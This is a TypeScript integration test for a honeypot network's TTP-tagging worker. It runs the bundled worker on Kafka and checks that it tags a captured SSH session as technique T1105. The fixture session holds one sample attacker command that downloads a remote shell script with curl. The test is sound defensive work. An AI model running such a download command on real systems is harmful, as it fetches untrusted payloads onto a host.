// The real bundle, standalone on Kafka: `node dist/workers/ttp/main.js`, copied out of the
// repository as its image would be, tags a session published on Kafka with the rule pack it
// carries, announces it on Kafka, and exits 0 on SIGTERM (the import floor is checked by the
// bundle test).
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { cpSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { openKafkaTransport } from '@decnet/bus-kafka';
import { EVENTS, silentLogger, type BusTransport } from '@decnet/core';
import { captureEvents, eventually } from '@decnet/core/testing';
import { attackers, ttp_tag, type Database } from '@decnet/db';
import { countRows, insertRows, migratedScratchDatabase } from '@decnet/db/testing';
import type { ScratchDatabase } from '@decnet/testing/postgres';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const ROOT = resolve(import.meta.dirname, '../../..');
let scratch: ScratchDatabase;
let database: Database;
let transport: BusTransport | undefined;
let child: ChildProcess | undefined;
let output = '';
/** The bundle directory alone, outside the repository (what the Dockerfile copies). */
let image: string;

beforeAll(async () => {
  execFileSync(process.execPath, ['tools/bundle/bundle.mjs', '--quiet', 'worker-ttp'], { cwd: ROOT, stdio: 'inherit' });
  image = mkdtempSync(join(tmpdir(), 'ttp-image-'));
  cpSync(join(ROOT, 'dist/workers/ttp'), image, { recursive: true });
  ({ scratch, database } = await migratedScratchDatabase());
}, 120_000);
afterAll(async () => {
  child?.kill('SIGKILL');
  await transport?.close();
  await database.close();
  await scratch.drop();
  rmSync(image, { recursive: true, force: true });
});

describe('the ttp bundle runs standalone on Kafka', () => {
  it('tags a session from Kafka, publishes ttp.tagged on Kafka, and stops cleanly on SIGTERM', async () => {
    const brokers = process.env.KAFKA_BROKERS;
    if (!brokers) throw new Error('KAFKA_BROKERS unset: add tools/testing/kafka-setup.ts to globalSetup');
    const prefix = `ttp-standalone-${process.pid}`;
    await insertRows(database, attackers, [{ uuid: '11111111-1111-4111-8111-111111111111', ip: '198.51.100.7' }]);
    transport = await openKafkaTransport({ brokers: brokers.split(','), prefix, instanceId: 'ttp-test', log: silentLogger });
    const bus = transport.connect('test');
    const tagged = captureEvents(bus, EVENTS.ttpTagged.subject);
    child = spawn(process.execPath, ['main.js'], {
      cwd: image,
      env: {
        ...process.env,
        DECNET_BUS: 'kafka',
        KAFKA_BROKERS: brokers,
        DECNET_KAFKA_PREFIX: prefix,
        DATABASE_URL: scratch.url,
        DECNET_LOG_LEVEL: 'warn',
      },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    child.stdout?.on('data', (d: Buffer) => (output += d.toString()));
    child.stderr?.on('data', (d: Buffer) => (output += d.toString()));
    const payload = {
      session_id: 'kafka-1',
      attacker_uuid: null,
      attacker_ip: '198.51.100.7',
      decky_id: 'decky-01',
      service: 'ssh',
      ended_at: '2026-05-02T06:01:00.000Z',
      duration_s: 5,
      commands: [{ id: 'kafka-1#0', command_text: 'curl -s http://203.0.113.9/a.sh -o /tmp/a.sh', ts: '2026-05-02T06:00:58.000Z', decky: 'decky-01', service: 'ssh' }],
      shard_path: null,
    };
    // Until the worker's consumer group has joined, publish again: tags are idempotent.
    await eventually(
      async () => {
        const n = await countRows(database, ttp_tag);
        if (n === 0) await bus.publish(EVENTS.attackerSessionEnded.subject, payload);
        return n === 1;
      },
      90_000,
      1_000,
    ).catch((err: unknown) => {
      throw new Error(`${(err as Error).message}\n${output}`, { cause: err });
    });
    const [event] = await tagged.waitFor(1, 30_000);
    expect(event?.payload).toMatchObject({ session_id: 'kafka-1', techniques_added: ['T1105'] });
    const exit = new Promise<number | null>((r) => child?.once('exit', (code) => r(code)));
    child.kill('SIGTERM');
    expect(await exit).toBe(0);
    child = undefined;
  });
});
